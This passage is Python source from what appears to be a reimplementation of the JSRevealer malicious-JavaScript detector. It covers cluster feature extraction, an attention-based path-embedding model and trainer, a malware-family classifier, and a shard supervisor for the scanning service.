            radius = float(np.sqrt(np.mean(distances**2)))
            signature = ""
            if signatures is not None:
                member_indices = np.flatnonzero(model.labels_ == index)
                nearest = member_indices[int(np.argmin(distances))]
                signature = signatures[nearest]
            clusters.append(
                ClusterFeature(center=center, label=label, radius=radius, size=len(members), central_path_signature=signature)
            )
        return clusters

    def _remove_overlapping(
        self, benign: list[ClusterFeature], malicious: list[ClusterFeature]
    ) -> list[ClusterFeature]:
        """Drop cross-class cluster pairs whose centers nearly coincide.

        Two clusters overlap when the distance between their centers is
        below ``overlap_threshold × (radius_a + radius_b)`` — such a pair
        carries no benign/malicious signal and is removed (both sides).
        """
        drop_benign: set[int] = set()
        drop_malicious: set[int] = set()
        for i, b in enumerate(benign):
            for j, m in enumerate(malicious):
                distance = float(np.linalg.norm(b.center - m.center))
                combined = b.radius + m.radius
                if combined > 0 and distance < self.overlap_threshold * combined:
                    drop_benign.add(i)
                    drop_malicious.add(j)
        self.removed_overlaps_ = len(drop_benign) + len(drop_malicious)
        kept = [b for i, b in enumerate(benign) if i not in drop_benign]
        kept += [m for j, m in enumerate(malicious) if j not in drop_malicious]
        return kept

    # ------------------------------------------------------------ transform

    @property
    def n_features(self) -> int:
        return len(self.features_)

    def _centers(self) -> np.ndarray:
        return np.vstack([f.center for f in self.features_])

    def transform_script(self, vectors: np.ndarray, weights: np.ndarray) -> np.ndarray:
        """Aggregate one script's (vectors, weights) into a feature vector.

        Each path joins its nearest cluster; the path's attention weight is
        added to that cluster's feature value (Sec. III-D: weights, not
        binary occurrence).
        """
        if not self.features_:
            raise RuntimeError("FeatureExtractor used before fit()")
        out = np.zeros(self.n_features)
        if len(vectors) == 0:
            return out
        centers = self._centers()
        x_sq = np.sum(vectors**2, axis=1)[:, None]
        c_sq = np.sum(centers**2, axis=1)[None, :]
        distances = np.maximum(x_sq + c_sq - 2.0 * vectors @ centers.T, 0.0)
        radii = np.maximum(np.array([f.radius for f in self.features_]), 1e-9)

        if self.assignment == "soft":
            # Gaussian kernel responsibilities, bandwidth = cluster radius
            # scaled by the membership factor.
            bandwidth_sq = (self.assign_radius_factor * radii[None, :]) ** 2
            logits = -distances / (2.0 * bandwidth_sq)
            logits -= logits.max(axis=1, keepdims=True)
            resp = np.exp(logits)
            resp /= resp.sum(axis=1, keepdims=True)
            return weights @ resp

        nearest = np.argmin(distances, axis=1)
        nearest_distance = np.sqrt(distances[np.arange(len(vectors)), nearest])
        belongs = nearest_distance <= self.assign_radius_factor * radii[nearest]
        np.add.at(out, nearest[belongs], weights[belongs])
        return out

    def transform(self, scripts: list[tuple[np.ndarray, np.ndarray]], fit_scaler: bool = False) -> np.ndarray:
        """Feature matrix for many scripts, min–max normalized (Eq. 6).

        Normalization is *per script*: Eq. 6 rescales each feature vector V
        by its own min(V)/max(V), so every script's vector spans [0, 1]
        regardless of how much total attention weight survived cluster
        assignment.  (``fit_scaler`` is accepted for API stability; the
        per-script form needs no fitted state.)
        """
        if not scripts:
            return np.zeros((0, self.n_features))
        raw = np.vstack([self.transform_script(v, w) for v, w in scripts])
        lo = raw.min(axis=1, keepdims=True)
        hi = raw.max(axis=1, keepdims=True)
        span = np.where(hi - lo > 0, hi - lo, 1.0)
        return (raw - lo) / span
