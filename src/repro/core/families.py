"""Malware family classification — the paper's stated future work.

Section V-A: *"Our future work will add a JavaScript malware family
component."*  This module implements that extension on top of the
JSRevealer feature space: the same cluster-weight feature vectors feed a
multiclass random forest over attack families (dropper, heap spray,
skimmer, cryptojacker, redirector, staged loader), reusing the trained
binary detector's embedder and cluster features.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from repro.ml import RandomForestClassifier

from .detector import JSRevealer


@dataclass
class FamilyReport:
    """Per-family precision/recall over a labeled evaluation set."""

    family: str
    precision: float
    recall: float
    support: int


class FamilyClassifier:
    """Multiclass family classifier over JSRevealer's feature space.

    Args:
        detector: A *fitted* JSRevealer whose embedder and cluster features
            are reused (the binary pipeline is the expensive part; family
            classification rides on top, as the paper sketches).
        n_estimators: Trees in the family forest.
        seed: Forest seed.
    """

    def __init__(self, detector: JSRevealer, n_estimators: int = 80, seed: int = 0):
        if not detector._fitted:
            raise ValueError("FamilyClassifier needs a fitted JSRevealer")
        self.detector = detector
        self.classifier = RandomForestClassifier(n_estimators=n_estimators, random_state=seed)
        self.families_: list[str] = []

    def fit(self, sources: list[str], families: list[str]) -> "FamilyClassifier":
        """Train on malicious scripts labeled with their family name."""
        if len(sources) != len(families):
            raise ValueError("sources and families length mismatch")
        if not sources:
            raise ValueError("empty training set")
        X = self.detector.features_for(sources)
        self.families_ = sorted(set(families))
        index_of = {f: i for i, f in enumerate(self.families_)}
        y = np.array([index_of[f] for f in families])
        self.classifier.fit(X, y)
        return self

    def predict(self, sources: list[str]) -> list[str]:
        if not self.families_:
            raise RuntimeError("FamilyClassifier used before fit()")
        X = self.detector.features_for(sources)
        indices = self.classifier.predict(X)
        return [self.families_[int(i)] for i in indices]

    def predict_proba(self, sources: list[str]) -> np.ndarray:
        if not self.families_:
            raise RuntimeError("FamilyClassifier used before fit()")
        return self.classifier.predict_proba(self.detector.features_for(sources))

    def evaluate(self, sources: list[str], families: list[str]) -> list[FamilyReport]:
        """Per-family precision/recall on a labeled set."""
        predictions = self.predict(sources)
        reports = []
        for family in self.families_:
            tp = sum(1 for p, t in zip(predictions, families) if p == family and t == family)
            fp = sum(1 for p, t in zip(predictions, families) if p == family and t != family)
            fn = sum(1 for p, t in zip(predictions, families) if p != family and t == family)
            support = sum(1 for t in families if t == family)
            reports.append(
                FamilyReport(
                    family=family,
                    precision=tp / (tp + fp) if tp + fp else 0.0,
                    recall=tp / (tp + fn) if tp + fn else 0.0,
                    support=support,
                )
            )
        return reports
