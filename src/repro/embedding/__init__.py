"""Path embedding: numpy attention model + pre-training protocol."""

from .model import Adam, AttentionEmbeddingModel
from .trainer import PathEmbedder, TrainingHistory

__all__ = ["Adam", "AttentionEmbeddingModel", "PathEmbedder", "TrainingHistory"]
