"""Training loop for the path-embedding model (Sec. III-C).

The paper pre-trains the model on 5,000 held-out scripts (2,500 benign,
2,500 malicious) for 100 epochs, using the script labels as supervision,
then freezes it: at detection time only the FC-layer outputs and attention
weights are read.  ``PathEmbedder`` packages that protocol.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from repro.paths import PathContext, PathFeaturizer

from .model import Adam, AttentionEmbeddingModel


@dataclass
class TrainingHistory:
    """Loss/accuracy trajectory of the pre-training run."""

    losses: list[float] = field(default_factory=list)
    accuracies: list[float] = field(default_factory=list)


class PathEmbedder:
    """Pre-trainable wrapper: path contexts in, (vectors, weights) out.

    Args:
        embed_dim: Path-embedding size d (the paper uses 300; smaller
            values keep tests fast with no architecture change).
        epochs: Pre-training epochs (paper: 100).
        lr: Adam learning rate.
        seed: Parameter/shuffle seed.
        max_paths_per_script: Cap on paths consumed per script during
            training, for bounded epoch cost (sampled uniformly).
    """

    def __init__(
        self,
        embed_dim: int = 300,
        epochs: int = 100,
        lr: float = 1e-3,
        seed: int = 0,
        max_paths_per_script: int = 400,
    ):
        self.featurizer = PathFeaturizer()
        self.model = AttentionEmbeddingModel(
            input_dim=self.featurizer.feature_dim, embed_dim=embed_dim, seed=seed
        )
        self.epochs = epochs
        self.lr = lr
        self.seed = seed
        self.max_paths_per_script = max_paths_per_script
        self.history = TrainingHistory()
        self._trained = False

    # ------------------------------------------------------------- training

    def fit(self, scripts: list[list[PathContext]], labels) -> "PathEmbedder":
        """Pre-train on labeled scripts (label 1 = malicious)."""
        labels = np.asarray(labels, dtype=int)
        if len(scripts) != len(labels):
            raise ValueError("scripts and labels length mismatch")
        features = [self.featurizer.transform(contexts) for contexts in scripts]
        usable = [i for i, f in enumerate(features) if len(f) > 0]
        if not usable:
            raise ValueError("no script produced any path")

        rng = np.random.default_rng(self.seed)
        optimizer = Adam(self.model, lr=self.lr)
        for _ in range(self.epochs):
            order = rng.permutation(usable)
            total_loss = 0.0
            correct = 0
            for index in order:
                paths = features[index]
                if len(paths) > self.max_paths_per_script:
                    rows = rng.choice(len(paths), size=self.max_paths_per_script, replace=False)
                    paths = paths[rows]
                loss, grads = self.model.loss_and_grad(paths, int(labels[index]))
                optimizer.step(grads)
                total_loss += loss
                probs = self.model.predict_proba(paths)
                correct += int(np.argmax(probs) == labels[index])
            self.history.losses.append(total_loss / len(order))
            self.history.accuracies.append(correct / len(order))
        self._trained = True
        return self

    # -------------------------------------------------------------- serving

    def embed(self, contexts: list[PathContext]) -> tuple[np.ndarray, np.ndarray]:
        """(path vectors, attention weights) for one script.

        Scripts with zero paths return empty arrays — callers treat them as
        featureless.
        """
        features = self.featurizer.transform(contexts)
        if len(features) == 0:
            return np.zeros((0, self.model.embed_dim)), np.zeros(0)
        return self.model.embed_paths(features)

    @property
    def is_trained(self) -> bool:
        return self._trained
