"""The attention-based path-embedding model (Eqs. 1–5 of the paper).

Architecture, exactly as Figure 3 describes:

1. ``p'_i = tanh(W · p_i)`` — a fully connected layer embeds each path's
   initial vector into d dimensions.
2. ``α_i = softmax_i(p'_iᵀ · a)`` — an attention vector scores each path.
3. ``v = Σ α_i p'_i`` — attention-weighted aggregation over the script.
4. ``y' = softmax(U · v)`` — a linear classifier over the script vector.
5. Cross-entropy loss against the script label.

Implemented with hand-derived numpy gradients and Adam; no autograd
framework is available in this environment.  After training, callers use
:meth:`embed_paths` to obtain (path vectors, attention weights) — the
quantities the feature-extraction stage consumes.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np


def _softmax(z: np.ndarray) -> np.ndarray:
    z = z - z.max()
    e = np.exp(z)
    return e / e.sum()


@dataclass
class _Gradients:
    W: np.ndarray
    a: np.ndarray
    U: np.ndarray
    b: np.ndarray


class AttentionEmbeddingModel:
    """Fully connected layer + attention + softmax classifier.

    Args:
        input_dim: Width of the initial path vectors (|P| in Eq. 1).
        embed_dim: Path-embedding size d (paper: 300).
        n_classes: Output classes (2: benign / malicious).
        seed: Parameter-initialization seed.
    """

    def __init__(self, input_dim: int, embed_dim: int = 300, n_classes: int = 2, seed: int = 0):
        if input_dim <= 0 or embed_dim <= 0:
            raise ValueError("dimensions must be positive")
        rng = np.random.default_rng(seed)
        scale_w = np.sqrt(2.0 / (input_dim + embed_dim))
        self.W = rng.normal(0.0, scale_w, size=(embed_dim, input_dim))
        self.a = rng.normal(0.0, 1.0 / np.sqrt(embed_dim), size=embed_dim)
        self.U = rng.normal(0.0, np.sqrt(2.0 / (embed_dim + n_classes)), size=(n_classes, embed_dim))
        self.b = np.zeros(n_classes)
        self.input_dim = input_dim
        self.embed_dim = embed_dim
        self.n_classes = n_classes

    # -------------------------------------------------------------- forward

    def forward(self, paths: np.ndarray) -> tuple[np.ndarray, np.ndarray, np.ndarray, np.ndarray]:
        """Run Eqs. 1–4 for one script.

        Args:
            paths: (n_paths, input_dim) initial path vectors.

        Returns:
            ``(embedded, weights, script_vector, probs)`` where ``embedded``
            is (n, d), ``weights`` is the attention distribution (n,),
            ``script_vector`` is (d,), and ``probs`` is (n_classes,).
        """
        if paths.ndim != 2 or paths.shape[1] != self.input_dim:
            raise ValueError(f"expected (n, {self.input_dim}) paths, got {paths.shape}")
        if len(paths) == 0:
            raise ValueError("a script must contribute at least one path")
        embedded = np.tanh(paths @ self.W.T)  # (n, d)
        scores = embedded @ self.a  # (n,)
        weights = _softmax(scores)
        script_vector = weights @ embedded  # (d,)
        probs = _softmax(self.U @ script_vector + self.b)
        return embedded, weights, script_vector, probs

    def loss_and_grad(self, paths: np.ndarray, label: int) -> tuple[float, _Gradients]:
        """Cross-entropy loss and parameter gradients for one script."""
        embedded, weights, script_vector, probs = self.forward(paths)
        loss = -float(np.log(max(probs[label], 1e-12)))

        dz = probs.copy()
        dz[label] -= 1.0  # d loss / d logits
        grad_U = np.outer(dz, script_vector)
        grad_b = dz
        d_v = self.U.T @ dz  # (d,)

        # v = Σ α_i p'_i
        d_weights = embedded @ d_v  # (n,)
        d_embedded = np.outer(weights, d_v)  # (n, d)

        # α = softmax(s): ds_i = α_i (dα_i − Σ_j α_j dα_j)
        inner = float(weights @ d_weights)
        d_scores = weights * (d_weights - inner)  # (n,)

        grad_a = embedded.T @ d_scores  # (d,)
        d_embedded += np.outer(d_scores, self.a)

        d_pre = d_embedded * (1.0 - embedded**2)  # tanh'
        grad_W = d_pre.T @ paths  # (d, input_dim)

        return loss, _Gradients(W=grad_W, a=grad_a, U=grad_U, b=grad_b)

    # -------------------------------------------------------------- use-time

    def embed_paths(self, paths: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
        """Path vectors + attention weights for an unseen script.

        These are the fully-connected-layer outputs and attention weights
        the paper's feature-extraction stage consumes.
        """
        embedded, weights, _, _ = self.forward(paths)
        return embedded, weights

    def predict_proba(self, paths: np.ndarray) -> np.ndarray:
        return self.forward(paths)[3]

    # ------------------------------------------------------------- serialize

    def parameters(self) -> dict[str, np.ndarray]:
        return {"W": self.W, "a": self.a, "U": self.U, "b": self.b}

    def load_parameters(self, params: dict[str, np.ndarray]) -> None:
        self.W = params["W"].copy()
        self.a = params["a"].copy()
        self.U = params["U"].copy()
        self.b = params["b"].copy()


class Adam:
    """Adam optimizer over the model's four parameter tensors."""

    def __init__(self, model: AttentionEmbeddingModel, lr: float = 1e-3, beta1: float = 0.9, beta2: float = 0.999, eps: float = 1e-8):
        self.model = model
        self.lr = lr
        self.beta1 = beta1
        self.beta2 = beta2
        self.eps = eps
        self.t = 0
        self._m = {k: np.zeros_like(v) for k, v in model.parameters().items()}
        self._v = {k: np.zeros_like(v) for k, v in model.parameters().items()}

    def step(self, grads: _Gradients) -> None:
        self.t += 1
        named = {"W": grads.W, "a": grads.a, "U": grads.U, "b": grads.b}
        params = self.model.parameters()
        for key, grad in named.items():
            self._m[key] = self.beta1 * self._m[key] + (1 - self.beta1) * grad
            self._v[key] = self.beta2 * self._v[key] + (1 - self.beta2) * grad**2
            m_hat = self._m[key] / (1 - self.beta1**self.t)
            v_hat = self._v[key] / (1 - self.beta2**self.t)
            params[key] -= self.lr * m_hat / (np.sqrt(v_hat) + self.eps)
