"""Shard lifecycle: spawn, health-check, replace, roll.

PR 4 taught a worker pool to replace processes that hostile scripts
kill; this module lifts the same supervision contract one level up, to
whole scan daemons.  The supervisor (which lives inside the router
process, on its event loop) owns N shard subprocesses:

* **spawn** — each shard is ``python -m repro.cli serve`` on its own
  pre-allocated loopback port, sharing one on-disk feature cache; it
  counts as up only once ``/v1/healthz`` answers,
* **health** — a background loop polls ``process.poll()`` (fast: catches
  SIGKILL within one tick) and ``/v1/healthz`` (catches wedged-but-alive
  daemons); the router can ``mark_suspect`` a shard mid-request to pull
  the next check forward,
* **replace** — a dead shard is terminated, respawned *under the same
  stable shard id* on a fresh port, and re-awaited; the id is what the
  hash ring keys on, so the replacement inherits the dead shard's arcs
  and the shared disk cache rewarms its memory layer,
* **roll** — ``rolling_reload`` POSTs ``/v1/admin/reload`` to one shard
  at a time and verifies the epoch bumped before touching the next, so
  a model upgrade never takes two shards off the current epoch at once
  (and never takes any shard out of service at all).

The supervisor never speaks for shards — the router routes around
unhealthy ones (brownout) while replacement is in progress.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import subprocess
import sys
import time
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro.obs import get_logger

from .api import V1_PREFIX, EnvelopeError, parse_envelope
from .http import fetch

if TYPE_CHECKING:  # pragma: no cover
    from repro.obs import MetricsRegistry


def free_port(host: str = "127.0.0.1") -> int:
    """An OS-assigned free TCP port (bind-then-close; the usual race is
    tolerable on loopback — a losing shard fails readiness and is respawned)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind((host, 0))
        return sock.getsockname()[1]


@dataclass
class ShardSpec:
    """One supervised scan daemon."""

    shard_id: str  # stable: survives replacement (the ring keys on this)
    host: str
    port: int
    process: subprocess.Popen
    restarts: int = 0
    healthy: bool = True
    consecutive_fails: int = 0
    last_health: dict = field(default_factory=dict)  # last /v1/healthz data

    @property
    def pid(self) -> int:
        return self.process.pid


class ShardSupervisor:
    """Owns the shard subprocesses behind one router."""

    def __init__(
        self,
        model_dir: str,
        n_shards: int,
        host: str = "127.0.0.1",
        cache_dir: str | None = None,
        shard_args: list[str] | None = None,
        metrics: "MetricsRegistry | None" = None,
        health_interval_s: float = 0.5,
        health_timeout_s: float = 2.0,
        ready_timeout_s: float = 120.0,
        fail_threshold: int = 2,
    ):
        if n_shards < 1:
            raise ValueError("n_shards must be positive")
        self.model_dir = model_dir
        self.n_shards = n_shards
        self.host = host
        self.cache_dir = cache_dir
        #: Extra ``repro serve`` flags appended to every shard's argv
        #: (e.g. ``["--max-batch", "16"]``).
        self.shard_args = list(shard_args or [])
        self.health_interval_s = health_interval_s
        self.health_timeout_s = health_timeout_s
        self.ready_timeout_s = ready_timeout_s
        self.fail_threshold = fail_threshold
        self.shards: dict[str, ShardSpec] = {}
        self.log = get_logger("supervisor")
        self._task: asyncio.Task | None = None
        self._wake = asyncio.Event()
        self._suspects: set[str] = set()
        self._closed = False
        self._m_restarts = None
        self._m_up = None
        if metrics is not None:
            self._m_restarts = {
                f"shard-{i}": metrics.counter(
                    "repro_shard_restarts_total",
                    "Shard daemons replaced by the supervisor",
                    labels={"shard": f"shard-{i}"},
                )
                for i in range(n_shards)
            }
            self._m_up = {
                f"shard-{i}": metrics.gauge(
                    "repro_shard_up",
                    "1 while the shard answers health checks",
                    labels={"shard": f"shard-{i}"},
                )
                for i in range(n_shards)
            }

    # -------------------------------------------------------------- lifecycle

    async def start(self) -> None:
        """Spawn every shard, await readiness, start the health loop."""
        for i in range(self.n_shards):
            self.shards[f"shard-{i}"] = self._spawn(f"shard-{i}")
        await asyncio.gather(*(self._wait_ready(spec) for spec in self.shards.values()))
        self._task = asyncio.create_task(self._health_loop())

    async def stop(self) -> None:
        self._closed = True
        if self._task is not None:
            self._task.cancel()
            try:
                await self._task
            except asyncio.CancelledError:
                pass
            self._task = None
        for spec in self.shards.values():
            self._terminate(spec.process)

    def _terminate(self, process: subprocess.Popen) -> None:
        if process.poll() is None:
            process.terminate()
            try:
                process.wait(timeout=10)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait(timeout=10)

    # ------------------------------------------------------------------ spawn

    def _spawn(self, shard_id: str) -> ShardSpec:
        port = free_port(self.host)
        argv = [
            sys.executable,
            "-m",
            "repro.cli",
            "serve",
            "--model",
            self.model_dir,
            "--host",
            self.host,
            "--port",
            str(port),
        ]
        if self.cache_dir is not None:
            argv += ["--cache-dir", self.cache_dir]
        argv += self.shard_args
        env = dict(os.environ)
        # Shards must import the same repro the supervisor runs, even when
        # it was never pip-installed (tests, CI): prepend its parent dir.
        import repro

        src_dir = os.path.dirname(os.path.dirname(os.path.abspath(repro.__file__)))
        env["PYTHONPATH"] = src_dir + os.pathsep + env.get("PYTHONPATH", "")
        process = subprocess.Popen(argv, env=env, stdout=subprocess.DEVNULL)
        self.log.info(
            "shard spawned", extra={"shard": shard_id, "port": port, "shard_pid": process.pid}
        )
        return ShardSpec(shard_id=shard_id, host=self.host, port=port, process=process)

    async def _wait_ready(self, spec: ShardSpec) -> None:
        deadline = time.monotonic() + self.ready_timeout_s
        while True:
            if spec.process.poll() is not None:
                raise RuntimeError(
                    f"{spec.shard_id} exited with {spec.process.returncode} before ready"
                )
            try:
                response = await fetch(
                    spec.host, spec.port, "GET", f"{V1_PREFIX}/healthz", timeout_s=self.health_timeout_s
                )
                if response.status == 200:
                    spec.last_health = parse_envelope(response.status, response.body) or {}
                    spec.healthy = True
                    spec.consecutive_fails = 0
                    self._set_up(spec.shard_id, 1)
                    return
            except Exception:
                pass  # not accepting yet (or mid-start); keep polling
            if time.monotonic() >= deadline:
                self._terminate(spec.process)
                raise RuntimeError(f"{spec.shard_id} not ready within {self.ready_timeout_s:g}s")
            await asyncio.sleep(0.05)

    def _set_up(self, shard_id: str, value: int) -> None:
        if self._m_up is not None and shard_id in self._m_up:
            self._m_up[shard_id].set(value)

    # ----------------------------------------------------------------- health

    def mark_suspect(self, shard_id: str) -> None:
        """Router hint: this shard just failed a request — check it *now*."""
        self._suspects.add(shard_id)
        self._wake.set()

    @property
    def unhealthy(self) -> set[str]:
        return {shard_id for shard_id, spec in self.shards.items() if not spec.healthy}

    async def _health_loop(self) -> None:
        while not self._closed:
            try:
                await asyncio.wait_for(self._wake.wait(), timeout=self.health_interval_s)
            except asyncio.TimeoutError:
                pass
            self._wake.clear()
            suspects, self._suspects = self._suspects, set()
            for spec in list(self.shards.values()):
                urgent = spec.shard_id in suspects
                try:
                    await self._check(spec, urgent=urgent)
                except asyncio.CancelledError:
                    raise
                except Exception as error:  # supervision must outlive any bug
                    self.log.warning(
                        "health check error", extra={"shard": spec.shard_id, "error": repr(error)}
                    )

    async def _check(self, spec: ShardSpec, urgent: bool = False) -> None:
        if spec.process.poll() is not None:  # the process is simply gone
            await self._replace(spec, reason=f"exited {spec.process.returncode}")
            return
        try:
            response = await fetch(
                spec.host, spec.port, "GET", f"{V1_PREFIX}/healthz", timeout_s=self.health_timeout_s
            )
            if response.status != 200:
                raise RuntimeError(f"healthz answered {response.status}")
            spec.last_health = parse_envelope(response.status, response.body) or {}
            spec.healthy = True
            spec.consecutive_fails = 0
            self._set_up(spec.shard_id, 1)
        except asyncio.CancelledError:
            raise
        except Exception as error:
            spec.consecutive_fails += 1
            threshold = 1 if urgent else self.fail_threshold
            if spec.consecutive_fails >= threshold:
                await self._replace(spec, reason=repr(error))
            else:
                spec.healthy = False
                self._set_up(spec.shard_id, 0)

    async def _replace(self, spec: ShardSpec, reason: str = "") -> None:
        """Respawn one shard under its stable id (fresh port, same arcs)."""
        spec.healthy = False
        self._set_up(spec.shard_id, 0)
        self.log.warning(
            "shard replaced", extra={"shard": spec.shard_id, "reason": reason}
        )
        self._terminate(spec.process)
        fresh = self._spawn(spec.shard_id)
        fresh.restarts = spec.restarts + 1
        # Not healthy until it answers /v1/healthz: the router must route
        # around it (and health snapshots must say so) while it boots.
        fresh.healthy = False
        self.shards[spec.shard_id] = fresh
        if self._m_restarts is not None and spec.shard_id in self._m_restarts:
            self._m_restarts[spec.shard_id].inc()
        try:
            await self._wait_ready(fresh)
        except RuntimeError:
            fresh.healthy = False  # next tick tries again (poll() is not None)

    # ------------------------------------------------------------------- roll

    async def rolling_reload(self, model_dir: str, timeout_s: float = 120.0) -> list[dict]:
        """Reload the model shard-by-shard; stop at the first failure.

        Each shard keeps serving throughout (the swap happens between
        micro-batches inside the daemon); sequencing means a bad model
        directory burns at most one shard's epoch, never the fleet's.
        """
        self.model_dir = model_dir  # replacements spawned from now on boot the new model
        results: list[dict] = []
        body = json.dumps({"model_dir": model_dir}).encode("utf-8")
        for shard_id in sorted(self.shards):
            deadline = time.monotonic() + timeout_s
            while True:
                # Re-read per attempt: a shard mid-replacement comes back
                # under the same id on a fresh port — roll the newcomer
                # rather than failing the whole fleet's upgrade.
                spec = self.shards[shard_id]
                try:
                    response = await fetch(
                        spec.host, spec.port, "POST", f"{V1_PREFIX}/admin/reload",
                        body=body, timeout_s=timeout_s,
                    )
                    data = parse_envelope(response.status, response.body)  # raises on error envelope
                    break
                except EnvelopeError:
                    raise  # the shard *answered* with a failure: a bad model dir
                except Exception as error:
                    if time.monotonic() >= deadline:
                        raise RuntimeError(
                            f"{shard_id} unreachable during rolling reload: {error!r}"
                        ) from error
                    await asyncio.sleep(0.25)
            spec.last_health = dict(spec.last_health, epoch=data["epoch"],
                                    model_fingerprint=data["model_fingerprint"])
            self.log.info(
                "shard rolled",
                extra={"shard": shard_id, "epoch": data["epoch"]},
            )
            results.append({"shard": shard_id, **data})
        return results

    # --------------------------------------------------------------- snapshot

    def snapshot(self) -> list[dict]:
        return [
            {
                "shard": shard_id,
                "port": spec.port,
                "pid": spec.pid,
                "healthy": spec.healthy,
                "restarts": spec.restarts,
                "epoch": spec.last_health.get("epoch"),
                "model_fingerprint": spec.last_health.get("model_fingerprint"),
            }
            for shard_id, spec in sorted(self.shards.items())
        ]
