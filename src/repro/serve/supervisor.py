"""Shard lifecycle: spawn, health-check, replace, back off, roll.

PR 4 taught a worker pool to replace processes that hostile scripts
kill; this module lifts the same supervision contract one level up, to
whole scan daemons.  The supervisor (which lives inside the router
process, on its event loop) owns the shard subprocesses:

* **spawn** — each shard is ``python -m repro.cli serve`` on its own
  pre-allocated port on the configurable ``bind`` host (loopback by
  default), sharing one on-disk feature cache; it counts as up only
  once ``/v1/healthz`` answers,
* **health** — a background loop polls ``process.poll()`` (fast: catches
  SIGKILL within one tick) and ``/v1/healthz`` (catches wedged-but-alive
  daemons); the router can ``mark_suspect`` a shard mid-request to pull
  the next check forward,
* **replace** — a dead shard is terminated, respawned *under the same
  stable shard id* on a fresh port, and re-awaited; the id is what the
  hash ring keys on, so the replacement inherits the dead shard's arcs
  and the shared disk cache rewarms its memory layer,
* **back off** — a shard that dies *repeatedly* (hostile input that
  kills the daemon on boot, a bad host, a poisoned model dir) is not
  respawned in a tight loop: consecutive deaths grow an exponential
  restart delay, and once the per-shard restart budget is exhausted the
  shard enters ``crash_loop`` state — parked until a long retry
  timer — while its hash-ring slots are served by their replicas.  The
  clock is injectable so the whole schedule is testable without
  sleeping,
* **roll** — ``rolling_reload`` POSTs ``/v1/admin/reload`` to one shard
  at a time and verifies the epoch bumped before touching the next;
  given a hash ring it is **replica-aware**: before rolling a shard it
  waits for that shard's co-replicas to be healthy, so no slot ever has
  every copy disrupted at once,
* **scale** — ``add_shard``/``remove_shard`` grow and shrink the fleet
  at runtime (the queue-depth autoscaler drives these through the
  cluster controller, which keeps the router's ring in sync).

The supervisor never speaks for shards — the router routes around
unhealthy ones (brownout only when a slot's whole replica set is gone)
while replacement is in progress.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import subprocess
import sys
import time
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Callable

from repro.obs import get_logger

from .api import V1_PREFIX, EnvelopeError, parse_envelope
from .http import fetch

if TYPE_CHECKING:  # pragma: no cover
    from repro.obs import MetricsRegistry

    from .hashring import HashRing

#: Shard lifecycle states surfaced in the fleet snapshot (``/v1/healthz``).
SHARD_READY = "ready"
SHARD_STARTING = "starting"
SHARD_UNHEALTHY = "unhealthy"
SHARD_BACKOFF = "backoff"
SHARD_CRASH_LOOP = "crash_loop"


def free_port(host: str = "127.0.0.1") -> int:
    """An OS-assigned free TCP port (bind-then-close; the usual race is
    tolerable — a losing shard fails readiness and is respawned)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind((host, 0))
        return sock.getsockname()[1]


@dataclass
class ShardSpec:
    """One supervised scan daemon."""

    shard_id: str  # stable: survives replacement (the ring keys on this)
    host: str
    port: int
    process: subprocess.Popen
    restarts: int = 0
    healthy: bool = True
    consecutive_fails: int = 0
    state: str = SHARD_STARTING
    #: Consecutive deaths without a sustained healthy stretch in between.
    death_streak: int = 0
    #: Supervisor clock time before which no respawn is attempted.
    next_restart_at: float = 0.0
    #: Supervisor clock time the shard last answered its first healthz.
    ready_at: float = 0.0
    #: Guard: each process incarnation's death is accounted exactly once.
    death_noted: bool = False
    last_health: dict = field(default_factory=dict)  # last /v1/healthz data

    @property
    def pid(self) -> int:
        return self.process.pid


class ShardSupervisor:
    """Owns the shard subprocesses behind one router."""

    def __init__(
        self,
        model_dir: str,
        n_shards: int,
        host: str = "127.0.0.1",
        bind: str | None = None,
        cache_dir: str | None = None,
        shard_args: list[str] | None = None,
        shard_env: dict[str, dict[str, str]] | None = None,
        metrics: "MetricsRegistry | None" = None,
        health_interval_s: float = 0.5,
        health_timeout_s: float = 2.0,
        ready_timeout_s: float = 120.0,
        fail_threshold: int = 2,
        restart_backoff_s: float = 0.5,
        restart_backoff_max_s: float = 30.0,
        restart_budget: int = 5,
        healthy_reset_s: float = 30.0,
        crash_loop_retry_s: float = 300.0,
        clock: Callable[[], float] = time.monotonic,
    ):
        if n_shards < 1:
            raise ValueError("n_shards must be positive")
        if restart_budget < 1:
            raise ValueError("restart_budget must be positive")
        self.model_dir = model_dir
        self.n_shards = n_shards
        #: Where shards bind and are dialed; defaults to ``host`` so a
        #: single-host cluster needs no extra flag, but ``--bind`` can
        #: keep shards on loopback while the router listens wide (or, in
        #: a multi-host future, place them on a private interface).
        self.bind = bind or host
        self.host = host
        self.cache_dir = cache_dir
        #: Extra ``repro serve`` flags appended to every shard's argv
        #: (e.g. ``["--max-batch", "16"]``).
        self.shard_args = list(shard_args or [])
        #: Per-shard-id extra environment (chaos tests inject boot faults
        #: into exactly one shard through this).
        self.shard_env: dict[str, dict[str, str]] = dict(shard_env or {})
        self.health_interval_s = health_interval_s
        self.health_timeout_s = health_timeout_s
        self.ready_timeout_s = ready_timeout_s
        self.fail_threshold = fail_threshold
        self.restart_backoff_s = restart_backoff_s
        self.restart_backoff_max_s = restart_backoff_max_s
        self.restart_budget = restart_budget
        self.healthy_reset_s = healthy_reset_s
        self.crash_loop_retry_s = crash_loop_retry_s
        self.clock = clock
        self.shards: dict[str, ShardSpec] = {}
        #: ``(shard_id, clock time)`` of every respawn attempt — the
        #: chaos suite asserts the backoff schedule on this log.
        self.respawn_log: list[tuple[str, float]] = []
        self.log = get_logger("supervisor")
        self._task: asyncio.Task | None = None
        self._wake = asyncio.Event()
        self._suspects: set[str] = set()
        self._closed = False
        self._metrics = metrics
        self._m_restarts: dict[str, object] = {}
        self._m_up: dict[str, object] = {}
        self._m_crash_loops = (
            metrics.counter(
                "repro_shard_crash_loops_total",
                "Shards parked after exhausting their restart budget",
            )
            if metrics is not None
            else None
        )

    # ------------------------------------------------------------- metrics

